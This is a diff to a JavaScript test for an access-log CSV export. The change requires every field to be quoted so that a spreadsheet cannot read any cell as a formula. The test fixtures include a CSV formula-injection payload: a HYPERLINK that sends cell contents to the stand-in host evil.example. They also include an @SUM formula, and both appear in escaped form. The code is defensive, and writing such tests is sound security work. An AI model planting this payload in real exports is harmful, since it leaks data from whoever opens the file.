@@ -463,12 +463,15 @@ describe('access log', () => {
     const csv = await res.text();
     const lines = csv.split('\r\n');
     expect(lines[0]).toBe(
-      'time_utc,event,outcome,token_id,study_instance_uid,client_ip,user_agent,bytes,actor,detail',
+      '"time_utc","event","outcome","token_id","study_instance_uid","client_ip","user_agent","bytes","actor","detail"',
     );
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
     expect(csv).toContain(`"'@SUM(1+1)"`);
     expect(csv).not.toMatch(/(^|,)[=+\-@]/m);
-    expect(lines.filter((l) => l.includes(',invalid_token,')).length).toBeGreaterThanOrEqual(57);
+    // Every field quoted: no cell a spreadsheet could take for a formula, however it splits.
+    for (const line of lines.filter(Boolean))
+      expect(line, line).toMatch(/^"(?:[^"]|"")*"(,"(?:[^"]|"")*")*$/);
+    expect(lines.filter((l) => l.includes('","invalid_token","')).length).toBeGreaterThanOrEqual(57);
     expect(await lastEvent('access_log_exported')).toMatchObject({
       actor: 'staff:bob',
       detail: { event: 'invalid_token' },
